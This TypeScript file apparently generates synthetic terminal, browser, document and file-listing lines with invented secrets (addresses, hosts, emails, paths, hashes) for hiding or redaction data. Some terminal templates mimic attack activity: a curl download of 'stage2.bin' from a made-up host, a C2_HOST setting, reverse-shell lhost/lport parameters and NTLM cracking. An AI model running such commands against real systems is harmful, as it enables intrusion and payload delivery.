import type { Random } from '../../cases/lib/random.ts'
import { address, path } from '../../cases/lib/session-commands.ts'
import type { SecretKind, Show } from './recipe.ts'

/** A line of text with something in it that is to be hidden. */
export interface SecretLine {
  readonly kind: SecretKind
  readonly text: string
  /** The whole line; it says `text` once. */
  readonly line: string
  /** Where in the line `text` begins. */
  readonly at: number
}

const words = 'cedar harbor mirror falcon ledger quartz willow anchor copper meadow signal tundra'
const tops = ['example', 'example.com', 'example.net', 'example.org']
const people = ['j.lindqvist', 'mkoval', 'anna.petrova', 'ops', 't_novak', 'h.okafor']
const users = ['root', 'admin', 'deploy', 'mkoval', 'svc-backup', 'kali']

function word(random: Random): string {
  return random.pick(words.split(' '))
}

function host(random: Random): string {
  const first = random.chance(0.5) ? word(random) : `${word(random)}-${random.whole(1, 99)}`
  return `${first}.${word(random)}.${random.pick(tops)}`
}

const files = ['stage2.bin', 'targets.csv', 'notes.txt', 'loader.exe', 'wallet.json', 'report.docx']
const folders = ['Desktop', 'Documents', 'Downloads', 'AppData\\Local\\Temp']

/** A file in the folder of a user, as a prompt or a compiler writes it. */
function windowsPath(random: Random): string {
  const user = random.pick(people).split('.').at(-1) ?? ''
  return `C:\\Users\\${user}\\${random.pick(folders)}\\${word(random)}-${random.pick(files)}`
}

const makers: Readonly<Record<SecretKind, (random: Random) => string>> = {
  ipv4: address,
  host,
  mail: (random) => `${random.pick(people)}@${word(random)}.${random.pick(tops)}`,
  path: (random) => path(random),
  'windows-path': windowsPath,
  hash: (random) => random.hex(random.pick([32, 40])),
  'user-at-host': (random) => `${random.pick(users)}@${word(random)}${random.whole(1, 40)}`,
}

/** `{}` is the place of the secret. */
const terminalLines: Readonly<Record<SecretKind, readonly string[]>> = {
  ipv4: [
    'root@kali:~# ssh admin@{} -p 22',
    '[+] connected to {}:443 after 2 retries',
    'Accepted publickey for root from {} port 50122 ssh2',
    'kali@lab:~$ nmap -sV {} -oN scan.txt',
    'Mar 12 04:11:09 gw01 sshd[811]: Failed password from {}',
    'lport=8443 lhost={} exitfunc=thread',
  ],
  host: [
    'root@kali:~# curl -s https://{}/stage2.bin -o /tmp/x',
    'PING {} 56(84) bytes of data.',
    'resolved {} in 12 ms',
    'C2_HOST={}',
  ],
  mail: [
    'Mail sent to {} (queued)',
    'From: {}',
    'git config user.email {}',
    'login as {} failed, 2 tries left',
  ],
  path: ['python3 {} --targets list.csv', 'wrote {} (4211 bytes)', 'kali@lab:~$ cat {} | head'],
  'windows-path': ['C:\\Tools>type {}', 'wrote {} (4211 bytes)', 'C:\\Tools>copy {} D:\\out'],
  hash: ['{}  loader.bin', 'NTLM {} cracked in 4 s', 'token: {}'],
  'user-at-host': ['{}:~# ls -la', '{}:/var/www$ tail -f access.log', '[{} ops]$ whoami'],
}

const browserLines: Readonly<Record<SecretKind, readonly string[]>> = {
  ipv4: ['http://{}:8080/admin/panel', 'https://{}/login'],
  host: ['https://{}/admin/users', 'https://{}/index.php?id=41'],
  mail: ['https://webmail.example/u/{}/inbox'],
  path: ['https://files.example{}'],
  'windows-path': ['file:///{}'],
  hash: ['https://drive.example/d/{}/edit'],
  'user-at-host': ['ssh://{}/var/www'],
}

const documentLines: Readonly<Record<SecretKind, readonly string[]>> = {
  ipv4: ['The new server is {} from Monday on.', 'Backups go to {} every night.'],
  host: ['Please upload the lists to {} before noon.'],
  mail: ['Write to {} when the payment is there.', 'Contact: {}'],
  path: ['The report lies in {} as before.'],
  'windows-path': ['The report lies in {} as before.'],
  hash: ['Key of the archive: {}'],
  'user-at-host': ['Log in as {} and restart it.'],
}

const fileLines: Readonly<Record<SecretKind, readonly string[]>> = {
  ipv4: ['dump_{}.sql'],
  host: ['{}.ovpn'],
  mail: ['inbox-{}.pst'],
  path: ['{}'],
  'windows-path': ['{}'],
  hash: ['{}.bin'],
  'user-at-host': ['{}.pem'],
}

const templates: Readonly<Record<Show, Readonly<Record<SecretKind, readonly string[]>>>> = {
  terminal: terminalLines,
  browser: browserLines,
  document: documentLines,
  files: fileLines,
}

/** An invented secret in a line such as that window shows; equal states of `random`, equal lines. */
export function secretLine(random: Random, kind: SecretKind, window: Show): SecretLine {
  const template = random.pick(templates[window][kind])
  const text = makers[kind](random)
  return { kind, text, line: template.replace('{}', text), at: template.indexOf('{}') }
}
